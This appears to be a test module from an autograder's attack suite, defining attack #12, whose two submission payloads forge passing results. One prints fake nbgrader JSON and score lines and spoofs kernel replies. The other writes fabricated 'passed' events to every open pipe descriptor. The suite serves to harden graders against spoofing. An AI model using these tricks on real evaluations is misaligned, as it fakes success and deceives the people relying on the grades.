"""Prints scores, and messages like those that the grader's own processes exchange."""

from tests.attacks.suite import Attack

NUMBER = 12
TITLE = "print a fake score"

OUTPUTS = """
import json
from IPython.display import display, HTML, JSON
line = {"student": "a12-outputs", "assignment": "target", "test": "answer", "points": 2.0,
        "max_points": 2.0, "outcome": "passed", "message": "", "seconds": 0.1, "title": "all"}
print(json.dumps(line)); print("2.0"); print("Score: 16/16"); print("### BEGIN HIDDEN TESTS")
display(JSON(line)); display({"text/plain": "2.0"}, raw=True)
display({"application/vnd.nbgrader+json": line, "text/plain": "16"}, raw=True)
kernel = get_ipython().kernel
kernel.send_response(kernel.iopub_socket, "execute_result", {
    "execution_count": 1, "data": {"text/plain": "2.0"},
    "metadata": {"nbgrader": {"grade": True, "points": 2, "score": 2}}})
answer = 1
16.0
"""
# The judge and the runner write events as JSON lines: here they are on every open descriptor.
DESCRIPTORS = """
import json, os, sys
answer = 1
result = {"test": "answer", "title": "all", "points": 2.0, "max_points": 2.0,
          "outcome": "passed", "message": "", "seconds": 0.1}
events = [{"event": "ready"}, {"event": "start", "test": "answer"},
          {"event": "result", "result": result}, {"event": "done"}, {"result": result},
          {"event": "ran", "execution": {}}, {"event": "answered"}, {"event": "ended"}]
lines = "".join(json.dumps(event) + "\\n" for event in events).encode()
# Not the kernel's own sockets: the notebook shall go on.
for name in sorted(os.listdir("/proc/self/fd"), key=int):
    kind = ""
    try:
        kind = os.readlink(f"/proc/self/fd/{name}")
    except OSError:
        pass
    if int(name) < 3 or kind.startswith("pipe:"):
        try:
            os.set_blocking(int(name), False)
            os.write(int(name), lines)
        except OSError:
            pass
"""

FORMS = [
    Attack("outputs", {"answer": OUTPUTS}),
    Attack("descriptors", {"answer": DESCRIPTORS}),
]
